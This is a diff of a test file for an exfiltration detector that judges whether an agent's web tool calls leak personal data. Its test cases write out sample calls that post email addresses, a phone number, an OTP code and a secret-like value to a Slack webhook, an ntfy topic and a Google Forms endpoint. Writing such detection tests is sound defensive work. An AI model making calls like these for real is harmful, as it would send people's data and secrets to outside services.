@@ -82,8 +82,11 @@ describe("what a payload carries (exfil-payloads.ts)", () => {
   });
 
   it("judges chat webhooks, ntfy, form answers and data stores by their payload", () => {
-    expect(call("http_post", { url: "https://hooks.slack.com/services/T1/B1/x", body: '{"text":"a@x.example, b@y.example"}' })).not.toEqual([]);
+    expect(call("http_post", { url: "https://hooks.slack.com/services/T1/B1/x", body: '{"text":"a@x.example, b@y.example, +44 7700 900123"}' })).not.toEqual([]);
     expect(call("http_post", { url: "https://hooks.slack.com/services/T1/B1/x", body: '{"text":"deployed 2.1.0"}' })).toEqual([]);
+    // A team chat's bot names colleagues: two addresses are not records there, unless a word says they are.
+    expect(call("http_post", { url: "https://hooks.slack.com/services/T1/B1/x", body: '{"text":"PR opened by a@x.example, review from b@x.example"}' })).toEqual([]);
+    expect(call("http_post", { url: "https://hooks.slack.com/services/T1/B1/x", body: '{"text":"customers: a@x.example, b@y.example"}' })).not.toEqual([]);
     expect(call("http_post", { url: "https://ntfy.sh/t-1", body: "OTP 482913 for login" })).not.toEqual([]);
     expect(call("http_post", { url: "https://ntfy.sh/t-1", body: "backup done" })).toEqual([]);
     expect(call("fetch_url", { url: "https://docs.google.com/forms/d/e/1FAIpQLSf8x/formResponse?entry.1=OGDV6ZD4GNUHNEXY" })).not.toEqual([]);
